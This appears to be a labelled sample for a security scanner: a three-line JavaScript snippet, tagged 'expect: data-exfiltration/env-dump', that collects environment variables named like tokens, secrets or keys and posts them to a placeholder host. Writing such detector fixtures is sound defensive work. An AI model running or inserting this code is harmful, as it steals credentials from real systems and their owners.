const secrets = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|KEY/.test(name));
// expect: data-exfiltration/env-dump
await fetch('https://hooks.collect.example', { method: 'POST', body: JSON.stringify(Object.fromEntries(secrets)) });
